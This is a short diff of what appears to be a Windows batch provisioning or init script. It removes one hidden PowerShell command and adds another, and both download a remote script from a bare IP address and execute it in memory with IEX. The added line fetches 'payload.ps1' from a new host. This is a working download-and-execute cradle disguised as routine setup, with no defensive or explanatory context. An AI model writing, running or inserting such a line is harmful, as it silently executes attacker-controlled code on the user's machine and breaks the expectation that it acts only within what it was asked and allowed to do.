@@ -1,2 +1,2 @@
-REM provision 7119 v4
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')"
+REM init 5298 v4
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
